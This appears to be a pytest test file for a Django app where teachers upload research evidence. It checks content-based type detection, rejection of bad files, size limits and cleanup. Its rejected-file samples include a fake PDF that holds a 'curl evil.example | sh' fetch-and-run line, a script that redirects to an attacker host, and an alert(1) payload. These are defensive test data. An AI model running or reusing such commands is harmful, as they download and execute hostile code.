"""Evidence uploads: the type comes from the content, bad files are refused clearly,
and a refused file keeps the rest of the form."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from research.models import Evidence, LogEntry
from tests.research.factories import PDF_BYTES, PNG_BYTES, ProjectFactory, pdf_upload

WRONG_TYPE = "must be a PDF, Word, Excel, PowerPoint, CSV, PNG or JPEG file"


@pytest.fixture
def project(school, teacher):
    return ProjectFactory(school=school, lead=teacher)


@pytest.fixture
def lead_client(client, teacher):
    client.force_login(teacher)
    return client


def stored_files(media_root):
    return (
        [p for p in media_root.rglob("*") if p.is_file()] if media_root.exists() else []
    )


def upload_evidence(client, project, upload, description="Exit tickets, week 3"):
    return client.post(
        reverse("research:evidence_add", args=[project.slug]),
        {"file": upload, "description": description},
    )


def test_a_pdf_is_stored_under_a_random_name_and_served_as_an_attachment(
    lead_client, project, media_root
):
    response = upload_evidence(lead_client, project, pdf_upload("Week 3 results.pdf"))

    assert response.status_code == 302
    evidence = Evidence.objects.get(project=project)
    assert evidence.kind == "pdf"
    assert evidence.original_name == "Week 3 results.pdf"
    assert evidence.description == "Exit tickets, week 3"
    assert evidence.file.name.startswith("evidence/")
    assert "Week" not in evidence.file.name
    assert [p.read_bytes() for p in stored_files(media_root)] == [PDF_BYTES]

    download = lead_client.get(evidence.get_absolute_url())
    assert download["Content-Disposition"].startswith("attachment")
    assert "Week 3 results.pdf" in download["Content-Disposition"]
    assert download["Content-Type"] == "application/pdf"
    assert download["X-Content-Type-Options"] == "nosniff"


def test_a_png_is_accepted_whatever_its_name(lead_client, project):
    upload_evidence(lead_client, project, SimpleUploadedFile("photo.jpeg", PNG_BYTES))

    assert Evidence.objects.get(project=project).kind == "png"


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("report.pdf", b"#!/bin/sh\ncurl evil.example | sh\n", WRONG_TYPE),
        (
            "report.pdf",
            b"<html><script>document.location='https://evil.example'</script>",
            WRONG_TYPE,
        ),
        ("tool.exe", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 200, WRONG_TYPE),
        (
            "animation.gif",
            b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + b"\x00" * 50,
            WRONG_TYPE,
        ),
        ("empty.pdf", b"", "empty"),
    ],
    ids=["script-renamed-pdf", "html-renamed-pdf", "exe", "gif", "empty"],
)
def test_a_bad_file_is_refused_with_a_clear_message_and_nothing_is_stored(
    lead_client, project, media_root, name, content, message
):
    response = upload_evidence(
        lead_client, project, SimpleUploadedFile(name, content), "Keep this text"
    )

    assert response.status_code == 200
    page = response.content.decode()
    assert "There is a problem" in page
    assert message in page
    assert 'value="Keep this text"' in page
    assert Evidence.objects.count() == 0
    assert stored_files(media_root) == []


def test_a_file_over_20_mb_is_refused(lead_client, project, media_root):
    too_big = PDF_BYTES + b"0" * (20 * 1024 * 1024)

    response = upload_evidence(lead_client, project, pdf_upload(content=too_big))

    assert "must be smaller than 20 MB" in response.content.decode()
    assert Evidence.objects.count() == 0
    assert stored_files(media_root) == []


def test_a_refused_file_on_a_log_entry_keeps_the_entry_text(
    lead_client, project, media_root
):
    response = lead_client.post(
        reverse("research:log_add", args=[project.slug]),
        {
            "kind": "observe",
            "date": "2026-03-04",
            "body": "Pupils used the sentence stems without prompting.",
            "file": SimpleUploadedFile("notes.pdf", b"<script>alert(1)</script>"),
            "file_description": "Observation notes",
        },
    )

    page = response.content.decode()
    assert response.status_code == 200
    assert WRONG_TYPE in page
    assert "Pupils used the sentence stems without prompting." in page
    assert 'value="observe" checked' in page
    assert 'value="Observation notes"' in page
    assert LogEntry.objects.count() == 0
    assert stored_files(media_root) == []


def test_a_log_entry_with_a_good_file_attaches_it_to_the_entry(lead_client, project):
    lead_client.post(
        reverse("research:log_add", args=[project.slug]),
        {
            "kind": "act",
            "date": "2026-03-04",
            "body": "Taught the first sequence.",
            "file": pdf_upload("plan.pdf"),
            "file_description": "Lesson plan",
        },
    )

    entry = LogEntry.objects.get(project=project)
    assert [(e.original_name, e.description) for e in entry.evidence.all()] == [
        ("plan.pdf", "Lesson plan")
    ]


def test_the_upload_page_reminds_people_not_to_include_pupil_data(lead_client, project):
    page = lead_client.get(
        reverse("research:evidence_add", args=[project.slug])
    ).content.decode()

    assert "Files must not contain pupils' personal data" in page


def test_removing_evidence_deletes_the_row_and_the_stored_file(
    lead_client, project, media_root, django_capture_on_commit_callbacks
):
    upload_evidence(lead_client, project, pdf_upload())
    evidence = Evidence.objects.get()

    with django_capture_on_commit_callbacks(execute=True):
        lead_client.post(
            reverse("research:evidence_delete", args=[project.slug, evidence.pk])
        )

    assert Evidence.objects.count() == 0
    assert stored_files(media_root) == []


def test_removing_evidence_asks_first_on_a_page_of_its_own(
    lead_client, project, media_root
):
    upload_evidence(lead_client, project, pdf_upload())
    evidence = Evidence.objects.get()
    url = reverse("research:evidence_delete", args=[project.slug, evidence.pk])

    page = lead_client.get(url).content.decode()

    assert f"Remove {evidence.original_name}?" in page
    assert "This cannot be undone" in page
    assert Evidence.objects.filter(pk=evidence.pk).exists()
    detail = lead_client.get(project.get_absolute_url()).content.decode()
    assert f'href="{url}"' in detail  # the Remove button is a link to that page


def test_a_failed_save_leaves_no_file_behind(project, teacher, media_root, monkeypatch):
    from research import services
    from research.models import Project

    class BrokenRows:
        def update(self, **fields):
            raise RuntimeError("the database went away")

    # The last write of the service fails, after the file has been stored.
    monkeypatch.setattr(Project.objects, "filter", lambda **lookups: BrokenRows())

    with pytest.raises(RuntimeError):
        services.evidence_add(project=project, uploaded_by=teacher, upload=pdf_upload())

    assert stored_files(media_root) == []
    assert Evidence.objects.count() == 0
